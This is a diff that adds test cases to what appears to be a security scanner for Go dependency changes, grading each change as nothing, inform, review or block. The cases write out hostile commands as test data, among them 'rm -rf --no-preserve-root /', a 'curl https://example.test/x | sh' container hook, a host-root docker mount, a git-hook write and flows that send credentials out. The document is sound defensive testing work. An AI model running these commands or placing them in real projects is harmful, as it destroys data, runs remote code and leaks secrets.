@@ -611,7 +611,77 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
       tier: "nothing",
     },
   ],
+  "files-wiped": [
+    {
+      what: "what is below the folder of a user, for who calls it",
+      changes: [flow(["found", "path/filepath.WalkDir"], ["remove", "os.Remove"])],
+      tier: "review",
+      says: /now removes or writes over what is below the folder of a user/u,
+    },
+    {
+      what: "the same at start",
+      changes: [flow(["found", "path/filepath.WalkDir"], ["remove", "os.Remove"])],
+      known: { ways: { atStart: [way(`${m}.init#1`)] } },
+      tier: "block",
+    },
+    {
+      what: "as the old version did",
+      changes: [flow(["found", "path/filepath.WalkDir"], ["remove", "os.Remove"])],
+      known: { hadFlows: ["found remove"] },
+      tier: "inform",
+    },
+    {
+      what: "all there is, by a call",
+      changes: [call("os.RemoveAll", ["FILES/WRITE"], { arguments: constants("/") })],
+      tier: "review",
+    },
+    {
+      what: "all there is, by a command",
+      changes: [
+        call("os/exec.Command", ["EXEC"], {
+          arguments: constants("sh", "-c", "sleep 9; rm -rf --no-preserve-root /"),
+        }),
+      ],
+      tier: "review",
+    },
+    {
+      what: "folders of its own",
+      changes: [
+        call("os.RemoveAll", ["FILES/WRITE"], { arguments: constants("/var/cache/example") }),
+        call("os/exec.Command", ["EXEC"], {
+          arguments: constants("sh", "-c", "rm -rf /tmp/example ./build"),
+        }),
+        call("os/exec.Command", ["EXEC"], {
+          arguments: constants("rm", "-rf", "/var/lib/example", "~/.example"),
+        }),
+      ],
+      tier: "nothing",
+    },
+  ],
   "secrets-to-network": [
+    {
+      what: "requests that pass through, to an address that is new",
+      changes: [flow(["traffic", "*net/http.Request"], sent)],
+      known: {
+        had: ["NETWORK"],
+        hadFlows: ["traffic send"],
+        texts: ["https://metrics.example.test/v1"],
+      },
+      tier: "review",
+      says: /sends what is in requests that pass through it to https:\/\/metrics/u,
+    },
+    {
+      what: "requests that are handed on",
+      changes: [flow(["traffic", "*net/http.Request"], ["send", "(net/http.RoundTripper).RoundTrip"])],
+      tier: "nothing",
+    },
+    {
+      what: "what a request says of who sends it",
+      changes: [flow(["secret", "(*net/http.Request).BasicAuth"], sent)],
+      known: { ways: { existing: [way(`${m}.Handle`)] } },
+      tier: "review",
+      says: /sends what `\(\*Request\)\.BasicAuth` gives over/u,
+    },
     {
       what: "the environment, kept by a new function that somebody has to call",
       changes: [
@@ -717,12 +787,53 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
   ],
   "run-on-open": [
     { what: "a task of an editor", changes: [signal("run-on-open", ".vscode/tasks.json")], tier: "block" },
+    {
+      what: "what formats and checks Go",
+      changes: [signal("run-on-open", ".vscode/tasks.json", "go mod tidy && gofmt -w .")],
+      tier: "inform",
+    },
+    ...[
+      "go vet -vettool=./tool ./...",
+      "go vet --vettool=./tool ./...",
+      "golangci-lint run",
+      "gofmt -w . && ./tool",
+      "go mod tidy | sh",
+      "GOFLAGS=-toolexec=./tool go vet ./...",
+    ].map((text) => ({
+      what: `more than upkeep: ${text}`,
+      changes: [signal("run-on-open", ".vscode/tasks.json", text)],
+      tier: "block" as const,
+    })),
+    {
+      what: "a container that is described beside its folder",
+      changes: [signal("run-on-open", ".devcontainer.json", "initializeCommand: node prepare.js")],
+      tier: "block",
+    },
     { what: "what needs a tool of its own", changes: [signal("run-on-open", ".envrc")], tier: "review" },
     {
       what: "what direnv fetches by its hash",
       changes: [signal("run-on-open", ".envrc", 'source_url "https://example.test/a" "sha256-AAAA"')],
       tier: "inform",
     },
+    ...(
+      [
+        ["initializeCommand: node .devcontainer/prepare.js", "block"],
+        ["initializeCommand: docker volume create state >/dev/null && mkdir -p .cache", "inform"],
+        ["initializeCommand: docker volume create state; ./prepare.sh", "block"],
+        ["initializeCommand: mkdir -p a && echo $(sh prepare.sh)", "block"],
+        ["initializeCommand: echo x > .git/hooks/post-checkout", "block"],
+        [`initializeCommand: docker volume create ${"a".repeat(120)}…`, "block"],
+        [`postCreateCommand: make ${"a".repeat(140)}…`, "review"],
+        ["initializeCommand: docker run -v /:/host example.test/tool", "block"],
+        ["postCreateCommand: .devcontainer/on-create.bash", "inform"],
+        ["postCreateCommand tools: go install ./tools/...", "inform"],
+        ["postCreateCommand: curl https://example.test/x | sh", "block"],
+      ] as const
+    ).map(([text, tier]) => ({
+      what: `in a container: ${text}`,
+      changes: [signal("run-on-open", ".devcontainer/devcontainer.json", text)],
+      tier,
+    })),
     { what: "another signal", changes: [signal("invisible")], tier: "nothing" },
   ],
   "misleading-characters": [
@@ -774,6 +885,29 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
     {
       what: "one that reaches nothing",
       changes: [{ ...goroutine, capabilities: ["FILES/READ"] }],
+      known: { ways: { existing: [way(`${m}.Open`)] } },
+      tier: "nothing",
+    },
+  ],
+  "new-destination": [
+    {
+      what: "another host in a function that callers know",
+      changes: [
+        call("net/http.Get", ["NETWORK/DIAL"], { arguments: constants("https://cdn.example.test/v1") }),
+      ],
+      known: { ways: { existing: [way(`${m}.Open`)] } },
+      tier: "inform",
+    },
+    {
+      what: "where callers did not lead",
+      changes: [
+        call("net/http.Get", ["NETWORK/DIAL"], { arguments: constants("https://cdn.example.test/v1") }),
+      ],
+      tier: "nothing",
+    },
+    {
+      what: "a value that is no address",
+      changes: [call("net/http.NewRequest", ["NETWORK/DIAL"], { arguments: constants("GET", "path") })],
       known: { ways: { existing: [way(`${m}.Open`)] } },
       tier: "nothing",
     },
